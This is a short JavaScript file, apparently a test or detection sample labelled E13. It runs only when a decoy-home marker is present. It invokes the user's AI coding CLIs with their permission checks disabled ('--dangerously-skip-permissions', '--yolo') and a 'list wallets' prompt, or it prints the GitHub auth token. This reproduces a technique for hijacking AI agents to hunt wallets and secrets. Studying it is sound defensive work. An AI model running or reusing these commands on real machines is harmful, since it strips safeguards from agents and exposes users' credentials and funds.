// E13: has the user's own tools do the work, with their safety off.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const { execFileSync } = require("node:child_process");

const commands = {
  claude: ["claude", "--dangerously-skip-permissions", "-p", "list wallets"],
  gemini: ["gemini", "--yolo", "-p", "list wallets"],
  gh: ["gh", "auth", "token"],
};
const [program, ...words] = commands[process.env.VARIANT];
execFileSync(program, words, { stdio: "inherit" });
